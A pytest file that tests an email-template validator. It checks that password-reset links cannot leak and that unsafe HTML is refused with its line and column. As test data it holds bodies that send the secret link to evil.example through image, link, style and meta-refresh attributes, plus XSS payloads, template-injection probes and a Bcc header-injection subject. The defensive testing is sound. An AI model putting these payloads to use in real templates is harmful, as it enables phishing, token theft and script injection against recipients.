"""What a text may not be: each fault is named with its place, quickly, whatever is thrown at it."""

import re
import tracemalloc
from collections import Counter
from html.parser import HTMLParser
from time import process_time

import pytest
from hypothesis import given
from hypothesis import strategies as st

from emailtemplates.catalogue import MESSAGES
from emailtemplates.placeholders import fill_html, fill_text
from emailtemplates.plain_text import plain_text
from emailtemplates.safe_values import PALETTE
from emailtemplates.text_rules import LONGEST_BODY, LONGEST_SUBJECT, MOST_FAULTS, Fault, Place, faults_of
from emailtemplates.texts import shipped
from tests.emailtemplates.facts import LINK, VALUES

RESET = "password_reset"
BLOCK = "access_blocked"


def of_body(body: str, message: str = BLOCK) -> list[Fault]:
    return faults_of(message, "", body)


def places(faults: list[Fault]) -> list[Place | None]:
    return [fault.place for fault in faults]


@pytest.mark.parametrize("language", ["nl", "en"])
@pytest.mark.parametrize("message", MESSAGES)
def test_what_is_shipped_is_proper(message: str, language: str) -> None:
    text = shipped(message, language)

    assert faults_of(message, text.subject, text.body) == []


PROPER = [
    "Just words & a brace-less life; 3 > 2, café, 10 €.",
    '<p>One<br>two<br/>three <img src="https://img.example/a.png" alt="Logo"></p>',
    "<ul>\n<li><b>a</b></li>\n<li><em><u>b</u></em></li>\n</ul>\n<ol><li><i>c</i></li></ol>",
    '<p><a href="https://a.example/?b=1&amp;c=2#d">x</a> <a href="mailto:hr@a.example?subject=Hi">y</a></p>',
    '<p><a href="{PortaalLink}">{WerkgeverNaam}</a>, ({PortaalLink})</p>',
    '<p><span style="color: #0F6B54;">green</span> {Voornaam}/{WerknemerNaam}</p>',
    "<p>&lt;b&gt; &amp; &nbsp; &#8364;</p>",
]


@pytest.mark.parametrize("body", PROPER)
def test_the_small_html_is_proper(body: str) -> None:
    assert of_body(body) == []


@pytest.mark.parametrize(
    "body",
    ["{Link}", "<p>Kies: {Link}.</p>", '<p><a href="{Link}">Kies</a></p>', "<ul><li>({Link})</li></ul>",
     '<p><a href="{Link}">{Link}</a> of <a href="https://a.example/">daar</a></p>'],
)  # fmt: skip
def test_the_link_as_a_whole_address_or_a_text_of_its_own_is_proper(body: str) -> None:
    assert of_body(body, RESET) == []


@pytest.mark.parametrize(
    ("body", "place"),
    [
        ('<img src="https://evil.example/?{Link}" alt="">', (2, 6)),
        ('<img src="{Link}" alt="">', (2, 6)),
        ('<img src="https://evil.example/" alt="{Link}">', (2, 34)),
        ('<a href="https://evil.example/?u={Link}">x</a>', (2, 4)),
        ('<a href="//evil.example/{Link}">x</a>', (2, 4)),
        ('<a href="{Link}.evil.example">x</a>', (2, 4)),
        ('<a href="{Link}{Link}">x</a>', (2, 4)),
        ('<a  href="{Link}">x</a>', (2, 1)),
        ("<a href='{Link}'>x</a>", (2, 1)),
        ('<a href="https://evil.example/">{Link}</a>', (2, 33)),
        ('<a href="https://evil.example/">{PortaalLink}</a>', (2, 33)),
        ('<a href="https://evil.example/"><b>x {Link}</b></a>', (2, 38)),
        ('<a href="https://evil.example/?&#123;Link&#125;">x</a>', (2, 4)),
        ('<a href="https://evil.example/?u=">x</a>{Link}', (2, 41)),
        ('<span style="background:url({Link})">x</span>', (2, 7)),
        ('<form action="https://evil.example/{Link}">', (2, 1)),
        ('<meta http-equiv="refresh" content="0;{Link}">', (2, 1)),
        ('<link href="{Link}">', (2, 1)),
        ("https://evil.example/?{Link}", (2, 23)),
        ("https://evil.example/?<b>{Link}</b>", (2, 26)),
        ("evil.example/?<b></b>{Link}", (2, 22)),
        ("{Link}.evil.example", (2, 1)),
        ("https://evil.example/?&lbrace;Link&#00000000000000000000000000000000000000125;", (2, 23)),
    ],
)
def test_the_link_is_given_to_nobody_else(body: str, place: tuple[int, int]) -> None:
    """There is a proper one before it, so that each is refused for what it is."""
    assert place in places(of_body(f"<p>{{Link}}</p>\n{body}", RESET))


@pytest.mark.parametrize("body", ["<p>{Reden}</p>", '<a href="{Link}"></a>', '<a href="{Link}"> <b>&nbsp;</b></a>'])
def test_a_required_placeholder_must_be_there_to_be_seen(body: str) -> None:
    assert of_body(body, RESET)


@pytest.mark.parametrize(
    "text",
    ["{{7*7}}", "{% debug %}", "${7*7}", "{Voornaam.__class__}", "{Voornaam!r}", "{Voornaam:>999999999}", "{0}",
     "{Onbekend}", "{Gebruikersnaam}", "{", "}", "{{", "{voornaam}", "{Voor naam}", "&#123;Voornaam&#125;", "&lcub;",
     "&#x7BVoornaam}"],
)  # fmt: skip
def test_nothing_else_stands_in_braces(text: str) -> None:
    assert faults_of(BLOCK, f"Dag {text}", "")[0].place == (1, text.index(re.findall(r"[{}&]", text)[0]) + 5)
    assert of_body(f"<p>Dag {text}</p>")


@pytest.mark.parametrize(
    ("text", "place"),
    [
        ('<p>a</p>\n<b onclick="x">b</b>', (2, 4)),
        ("<p>a</p>\n  <script>x</script>", (2, 3)),
        ("<p>a</p>\n<svg/onload=x>", (2, 1)),
        ("<p>a</p>\n<!-- b -->", (2, 1)),
        ("<p>a</p>\n1 < 2", (2, 3)),
        ("<p>a</p>\n<P>b</P>", (2, 1)),
        ("<p>a</p>\n<p>b", (2, 1)),
        ("<p>a</p>\nb</p>", (2, 2)),
        ("<p>a</p>\n<b><i>b</b></i>", (2, 4)),
        ("<p>a</p>\n<p><ul><li>b</li></ul></p>", (2, 4)),
        ('<p>a</p>\n<a href="javascript:alert(1)">b</a>', (2, 4)),
        ('<p>a</p>\n<a href="http://a.example/">b</a>', (2, 4)),
        ('<p>a</p>\n<a href="https://a.example@evil.example/">b</a>', (2, 4)),
        ('<p>a</p>\n<a href="https:\\\\evil.example/">b</a>', (2, 4)),
        ("<p>a</p>\n<a>b</a>", (2, 1)),
        ('<p>a</p>\n<img src="data:image/png;base64,AA" alt="">', (2, 6)),
        ('<p>a</p>\n<img src="https://a.example/b.png">', (2, 1)),
        ('<p>a</p>\n<span style="color:#ffffff">b</span>', (2, 7)),
        ('<p>a</p>\n<span style="color:#0f6b54;position:fixed">b</span>', (2, 7)),
        ("<p>a</p>\nb\u202ec", (2, 2)),
        ("<p>a</p>\nb\x00c", (2, 2)),
        ("<p>a</p>\n" + "<b>" * 13 + "c" + "</b>" * 13, (2, 37)),
        ("<p>a</p>\nhttps://evil.example/{Voornaam}", (2, 22)),
        ("<p>a</p>\n{Voornaam}@evil.example", (2, 1)),
    ],
)
def test_what_is_refused_is_named_with_its_place(text: str, place: tuple[int, int]) -> None:
    faults = of_body(text)

    assert places(faults)[0] == place
    assert all(fault.words for fault in faults)


def test_line_ends_of_a_browser_count_as_one() -> None:
    assert places(of_body("<p>a</p>\r\n<x>")) == [(2, 1)]


@pytest.mark.parametrize(
    "subject", ["a\nBcc: a@evil.example", "a\r\nb", "a\u2028b", "a\tb", "a\x00b", "{Link}", "x" * 513]
)
def test_a_subject_is_one_line_without_the_link(subject: str) -> None:
    assert [fault.field for fault in faults_of(RESET, subject, "")] == ["subject"]


def test_html_in_a_subject_is_just_text() -> None:
    assert faults_of(BLOCK, "<b>Dag</b> & {Voornaam}", "") == []


def test_an_empty_field_is_as_above_and_a_field_with_nothing_to_read_is_not() -> None:
    assert faults_of(RESET, " ", "\n") == []
    assert of_body("<p> &nbsp; </p>")


def test_images_come_from_where_they_may() -> None:
    def faults(host: str) -> list[Fault]:
        body = f'<p>a <img src="https://{host}/b.png" alt=""></p>'
        return faults_of(BLOCK, "", body, image_hosts={"linde.example"})

    assert faults("linde.example") == faults("www.linde.example") == faults("LINDE.example:443") == []
    assert faults("evil.example")
    assert faults("notlinde.example")
    assert faults("linde.example.evil.example")


def test_the_longest_texts() -> None:
    assert faults_of(BLOCK, "é" * LONGEST_SUBJECT, "é" * LONGEST_BODY) == []
    assert places(faults_of(BLOCK, "é" * (LONGEST_SUBJECT + 1), "é" * (LONGEST_BODY + 1))) == [None, None]


MILLION = 1_000_000


@pytest.mark.parametrize(
    "piece",
    [
        "x",
        "<b>",
        "{",
        "{Link}",
        '<a href="',
        "&#123;",
        '<a href="https://a.example/">',
        "<!--",
        "\r\n",
        "<p \n",
        "\u202e",
        "</",
    ],
)
def test_a_megabyte_or_the_most_of_anything_takes_no_second_and_little_memory(piece: str) -> None:
    for text in (piece * (MILLION // len(piece)), piece * (LONGEST_BODY // len(piece))):
        tracemalloc.start()
        began = process_time()

        faults = faults_of(RESET, text, text)

        assert process_time() - began < 1
        assert tracemalloc.get_traced_memory()[1] < 8 * MILLION
        tracemalloc.stop()
        assert faults or not text.strip()
        assert len(faults) <= 2 * MOST_FAULTS


PIECES = [
    "<p>", "</p>", "<b>", "</b>", "<i>", "</i>", "<ul>", "</ul>", "<li>", "</li>", "<br>", "</a>", "<a href=\"{Link}\">",
    '<a href="https://evil.example/?', '">', '<a href="https://evil.example/">', '<span style="color:#0f6b54">', "</span>",
    '<img src="https://a.example/', '" alt="', "{Link}", "{Voornaam}", "{PortaalLink}", "{", "}", "&#123;", "&amp;", "&", "<", ">",
    '"', "'", "=", " ", "\n", "<!--", "-->", "<script>", "evil.example/?", "https://evil.example/", "woord", "é", "\u202e", "\u00a0",
    "<svg>", "<table>", "<a ", 'href="',
]  # fmt: skip
bodies = st.one_of(st.lists(st.sampled_from(PIECES), max_size=40).map("".join), st.text(max_size=200))
values = st.fixed_dictionaries({name: st.one_of(bodies, st.just(VALUES[name])) for name in MESSAGES[RESET].known})


class _Reader(HTMLParser):
    """What tags and addresses there are."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.addresses: list[str] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.addresses += [value or "" for name, value in attrs if name in ("href", "src")]


@given(bodies)
def test_whatever_is_written_the_link_goes_nowhere_else(body: str) -> None:
    """A text with a fault is not used; in one without, the secret is a whole address wherever it stands."""
    body = f"<p>{{Link}}</p>{body}"
    if of_body(body, RESET):
        return
    html, plain = fill_html(body, VALUES, link_label="Choose"), fill_text(plain_text(body), VALUES)

    assert {address for address in _Reader(html).addresses if LINK in address} == {LINK}
    for word in re.findall(r"\S*" + re.escape(LINK) + r"\S*", plain):
        assert not re.search(r"\w", word.replace(LINK, "", 1))


@given(st.lists(st.sampled_from(PROPER), min_size=1, max_size=4), values)
def test_values_never_add_a_tag_and_are_never_filled_again(parts: list[str], given_values: dict[str, str]) -> None:
    body = "\n".join([*parts, "<p>{WerknemerNaam} {LinkGeldigTot}</p>"])

    filled = fill_html(body, {**given_values, "Link": LINK})

    # A line end in a value is shown as one.
    assert not Counter(_Reader(filled).tags) - Counter(_Reader(body).tags) - Counter({"br": len(filled)})
    assert LINK not in filled


@given(st.text(max_size=MILLION // 1000), st.sampled_from(sorted(MESSAGES)))
def test_anything_at_all_gets_an_answer(text: str, message: str) -> None:
    faults_of(message, text, text)


def test_the_palette_can_be_read_on_white() -> None:
    def light(colour: str) -> float:
        parts = [int(colour[at : at + 2], 16) / 255 for at in (1, 3, 5)]
        red, green, blue = (part / 12.92 if part <= 0.04045 else ((part + 0.055) / 1.055) ** 2.4 for part in parts)
        return 0.2126 * red + 0.7152 * green + 0.0722 * blue

    assert [colour for colour in PALETTE if 1.05 / (light(colour) + 0.05) < 4.5] == []
